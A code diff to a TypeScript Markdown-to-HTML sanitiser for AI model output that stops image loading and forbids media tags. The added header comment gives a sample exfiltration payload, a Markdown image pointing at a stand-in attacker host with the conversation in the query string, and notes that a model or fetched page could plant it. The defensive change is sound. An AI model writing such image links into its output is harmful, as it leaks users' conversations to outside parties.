@@ -2,11 +2,26 @@
  * Markdown to safe HTML for model output, tool results and the help guides.
  * marked renders (GitHub-flavoured, no raw-HTML trust); DOMPurify then removes anything executable: scripts,
  * event handlers, `javascript:` URLs, SVG/MathML script vectors. Everything shown from a model goes through here.
+ * Images are never loaded: a model or a fetched page could write `![](https://attacker/?q=<conversation>)` to send
+ * the conversation away the moment it renders, so a Markdown image becomes a link the person may choose to open.
  */
 import DOMPurify from 'dompurify'
 import { Marked } from 'marked'
 
-const marked = new Marked({ gfm: true, breaks: false, async: false })
+function escapeHtml(text: string): string {
+  return text.replace(/[&<>"']/g, c => `&#${c.charCodeAt(0)};`)
+}
+
+const marked = new Marked({
+  gfm: true,
+  breaks: false,
+  async: false,
+  renderer: {
+    image({ href, text }) {
+      return `<a href="${escapeHtml(href)}">[image: ${escapeHtml(text || 'untitled')}]</a>`
+    },
+  },
+})
 
 let isHookInstalled = false
 
@@ -29,7 +44,7 @@ export function renderMarkdown(source: string): string {
   const html = marked.parse(source) as string
   return DOMPurify.sanitize(html, {
     USE_PROFILES: { html: true },
-    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'object', 'embed'],
+    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'object', 'embed', 'img', 'picture', 'source', 'video', 'audio'],
     FORBID_ATTR: ['style'],
   })
 }
